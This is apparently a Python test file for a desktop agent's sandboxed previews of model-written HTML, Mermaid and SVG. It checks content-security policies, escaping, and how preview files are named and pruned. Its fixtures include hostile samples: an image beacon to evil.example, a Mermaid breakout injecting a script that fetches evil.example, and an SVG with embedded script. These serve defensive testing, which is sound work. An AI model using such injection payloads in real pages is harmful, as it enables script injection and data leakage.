"""Previews of code a model wrote: pages that start with a strict policy, where the model's text cannot break
out of where it is put, named by content and pruned."""

from __future__ import annotations

import re
import time
from pathlib import Path

from desktop_agent.ui import previews


def _head_policy(page: str) -> str:
    head = page[: page.index("</head>")]
    match = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', head)
    assert match, "a policy in the head"
    assert head.index("Content-Security-Policy") < head.index("<title>"), "before anything else loads"
    return match.group(1)


def test_which_code_blocks_can_be_previewed() -> None:
    assert previews.language_of("mermaid", "graph TD") == "mermaid"
    assert previews.language_of("HTML", "<p>") == "html"
    assert previews.language_of("svg", "<svg/>") == "svg"
    assert previews.language_of("xml", '<?xml version="1.0"?><svg></svg>') == "svg"
    assert previews.language_of("xml", "<note/>") is None
    assert previews.language_of("python", "print()") is None


def test_an_html_page_reaches_nothing(tmp_path: Path) -> None:
    page = previews.write_preview(
        "html", '<img src="https://evil.example/x?c=1"><p>Hi</p>', tmp_path
    ).read_text()
    policy = _head_policy(page)
    assert "default-src 'none'" in policy and "form-action 'none'" in policy and "frame-src 'none'" in policy
    assert "connect-src" not in policy, "no fetch, no XHR: default-src 'none' covers them"
    assert "Preview of code written by the model" in page


def test_mermaid_text_cannot_break_out_of_its_block(tmp_path: Path) -> None:
    hostile = "graph TD\nA</pre><script>fetch('https://evil.example')</script><pre>"
    page = previews.write_preview("mermaid", hostile, tmp_path).read_text()
    assert "</pre><script>fetch" not in page and "&lt;/pre&gt;&lt;script&gt;" in page
    policy = _head_policy(page)
    assert (
        previews.MERMAID_URL in policy
        and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    )
    assert f'integrity="{previews.MERMAID_SRI}"' in page and previews.MERMAID_SRI.startswith("sha384-")


def test_an_svg_is_shown_as_an_image_so_its_scripts_never_run(tmp_path: Path) -> None:
    hostile = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><circle r="4"/></svg>'
    page = previews.write_preview("svg", hostile, tmp_path).read_text()
    assert "<script>alert" not in page and 'src="data:image/svg+xml;base64,' in page
    assert "script-src" not in _head_policy(page)


def test_previews_are_named_by_content_and_old_ones_pruned(tmp_path: Path) -> None:
    first = previews.write_preview("html", "<p>1</p>", tmp_path)
    assert previews.write_preview("html", "<p>1</p>", tmp_path) == first
    assert previews.write_preview("svg", "<p>1</p>", tmp_path) != first
    for n in range(previews.KEEP + 5):
        newest = previews.write_preview("html", f"<p>{n}</p>", tmp_path)
        time.sleep(0.002)  # distinct modification times
    assert len(list(tmp_path.glob("preview-*.html"))) == previews.KEEP
    assert newest.exists() and not first.exists(), "the oldest go first"
